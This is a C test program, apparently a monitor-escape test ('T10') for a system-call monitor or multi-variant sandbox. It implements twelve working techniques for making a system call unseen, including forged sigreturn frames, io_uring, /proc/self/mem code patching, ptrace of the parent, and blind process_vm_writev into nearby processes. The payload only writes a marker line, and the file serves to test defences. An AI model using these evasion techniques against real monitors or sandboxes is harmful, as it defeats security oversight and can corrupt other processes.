// T10: code of an attacker runs in the program, and tries to make a call past whoever watches its calls.
//
// usage: escape WAY. It appends a line to the file `marker`, with an address of its own, in that way. Natively one line comes of
// it. Under a monitor that nothing escapes, variants whose addresses differ cannot agree on the line; where nothing differs,
// there is one line, not one per variant.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

static int file;
static char line[32];
static long size;

// A page of code that the attacker made: syscall; ret.
static long (*raw)(void);

static void *own_page(void *where, int flags) {
    char *page = mmap(where, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | flags, -1, 0);
    if (page == MAP_FAILED)
        _exit(1);
    memcpy(page, "\x0f\x05\xc3", 3);
    if (mprotect(page, 4096, PROT_READ | PROT_EXEC))
        _exit(1);
    return page;
}

static long raw_call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("call *%[page]"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), [page] "r"(raw)
                     : "rcx", "r11", "memory");
    return result;
}

static void raw_write(void) { raw_call(SYS_write, file, (long)line, size); }

static void from_own_page(void) { raw_write(); }

static void with_switch_off(void) {
    prctl(PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_OFF, 0L, 0L, 0L);
    raw_write();
}

// The call as on i386, which another table serves; buffers below 4 GiB.
static void by_int80(void) {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        _exit(1);
    memcpy(low, line, (size_t)size);
    long result = 4;
    __asm__ volatile("int $0x80" : "+a"(result) : "b"((long)file), "c"(low), "d"(size) : "memory", "r8", "r9", "r10", "r11");
    if (result < 0)
        _exit(1);
}

static void on_trap(int number, siginfo_t *info, void *context) {
    (void)number;
    (void)info;
    ucontext_t *frame = context;
    frame->uc_mcontext.gregs[REG_RAX] = raw_call(SYS_write, file, (long)line, size);
}

static void from_own_handler(void) {
    struct sigaction action = {.sa_sigaction = on_trap, .sa_flags = SA_SIGINFO | SA_NODEFER};
    sigaction(SIGSYS, &action, NULL);
    sigaction(SIGTRAP, &action, NULL);
    raise(SIGSYS);
}

static void in_vfork_child(void) {
    if (vfork() == 0) {
        raw_write();
        _exit(0);
    }
    wait(NULL);
}

static int write_there(void *unused) {
    (void)unused;
    raw_write();
    return 0;
}

// A task that shares memory but neither handlers nor descriptors.
static void in_clone_without_handlers(void) {
    static char stack[1 << 16] __attribute__((aligned(16)));
    int child = clone(write_there, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
    if (child < 0)
        _exit(1);
    waitpid(child, NULL, 0);
}

static void by_forged_frame(void) {
    struct {
        void *unused;
        ucontext_t context;
    } frame;
    memset(&frame, 0, sizeof frame);
    getcontext(&frame.context);
    greg_t *registers = frame.context.uc_mcontext.gregs;
    static char stack[4096] __attribute__((aligned(16)));
    void **top = (void **)(stack + sizeof stack - 64);
    *top = (void *)_exit; // where the page's ret goes
    registers[REG_RIP] = (greg_t)(uintptr_t)raw;
    registers[REG_RAX] = SYS_write;
    registers[REG_RDI] = file;
    registers[REG_RSI] = (greg_t)(uintptr_t)line;
    registers[REG_RDX] = size;
    registers[REG_RSP] = (greg_t)(uintptr_t)top;
    uint16_t code;
    __asm__("mov %%cs, %0" : "=r"(code));
    registers[REG_CSGSFS] = code | (0x2bULL << 48);
    registers[REG_EFL] = 0x202;
    frame.context.uc_mcontext.fpregs = NULL;
    __asm__ volatile("lea 8(%0), %%rsp\n\tmov $15, %%eax\n\tsyscall" : : "r"(&frame) : "memory", "rax");
    __builtin_unreachable();
}

// The kernel writes, asked through memory.
static void by_ring(void) {
    struct io_uring_params parameters = {0};
    int ring = (int)syscall(SYS_io_uring_setup, 2, &parameters);
    if (ring < 0)
        _exit(1);
    size_t bytes = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
    char *queue = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, parameters.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE,
                                        MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || (void *)entries == MAP_FAILED)
        _exit(1);
    entries[0] = (struct io_uring_sqe){
        .opcode = IORING_OP_WRITE, .fd = file, .addr = (uintptr_t)line, .len = (unsigned)size, .off = -1ULL};
    ((unsigned *)(queue + parameters.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(queue + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
}

static void nothing(void) {}

// The kernel's write to code that is read-only: it asks nobody for the rights of the page.
static void by_memory_file(void) {
    int memory = open("/proc/self/mem", O_RDWR);
    unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0};
    void (*target)(void) = raw_write;
    memcpy(jump + 2, &target, sizeof target);
    if (memory < 0 || pwrite(memory, jump, sizeof jump, (off_t)(uintptr_t)nothing) != sizeof jump)
        _exit(1);
    void (*volatile patched)(void) = nothing;
    patched();
}

// Into the memory of every process nearby, its own first; then in its own name.
static void by_foreign_write(void) {
    static char theirs[32];
    struct iovec local = {line, sizeof line}, remote = {theirs, sizeof theirs};
    if (process_vm_writev(getpid(), &local, 1, &remote, 1, 0) != (ssize_t)sizeof line)
        _exit(1);
    for (int near = getpid() - 8; near < getpid() + 8; near++)
        if (near > 1 && near != getpid() && near != getppid())
            process_vm_writev(near, &local, 1, &remote, 1, 0);
    raw_call(SYS_write, file, (long)theirs, size);
}

// Over the first executable mapping that belongs to no file: the monitor's own code, if it has some here.
static void over_foreign_code(void) {
    FILE *maps = fopen("/proc/self/maps", "r");
    char text[512], rights[8];
    uint64_t start = 0, from, to, inode;
    while (maps != NULL && fgets(text, sizeof text, maps))
        if (sscanf(text, "%lx-%lx %7s %*s %*s %lu", &from, &to, rights, &inode) == 4 && rights[2] == 'x' && inode == 0 &&
            strchr(text, '[') == NULL && from != (uint64_t)(uintptr_t)raw)
            start = from;
    if (start)
        raw = (long (*)(void))(uintptr_t)own_page((void *)start, MAP_FIXED);
    raw_write();
}

// As a tracer of its own parent.
static void by_tracing(void) {
    pid_t child = fork();
    if (child == 0) {
        pid_t parent = getppid();
        if (ptrace(PTRACE_ATTACH, parent, 0, 0) || waitpid(parent, NULL, __WALL) != parent ||
            ptrace(PTRACE_POKEDATA, parent, line, *(long *)line) || ptrace(PTRACE_DETACH, parent, 0, 0))
            _exit(1);
        _exit(0);
    }
    int status;
    if (waitpid(child, &status, 0) != child || status)
        _exit(1);
    raw_write();
}

static const struct {
    const char *name;
    void (*run)(void);
} ways[] = {
    {"own-page", from_own_page},
    {"dispatch-off", with_switch_off},
    {"int80", by_int80},
    {"own-handler", from_own_handler},
    {"vfork-child", in_vfork_child},
    {"clone-without-handlers", in_clone_without_handlers},
    {"forged-frame", by_forged_frame},
    {"io-uring", by_ring},
    {"memory-file", by_memory_file},
    {"foreign-write", by_foreign_write},
    {"over-foreign-code", over_foreign_code},
    {"tracing", by_tracing},
};

int main(int count, char **words) {
    if (puts("ready") < 0 || fflush(stdout) || getchar() != '\n')
        return 1;
    raw = (long (*)(void))(uintptr_t)own_page(NULL, 0);
    file = open("marker", O_WRONLY | O_CREAT | O_APPEND, 0666);
    size = snprintf(line, sizeof line, "%p\n", (void *)main);
    for (size_t i = 0; count == 2 && i < sizeof ways / sizeof *ways; i++)
        if (strcmp(words[1], ways[i].name) == 0) {
            ways[i].run();
            return 0;
        }
    return 2;
}
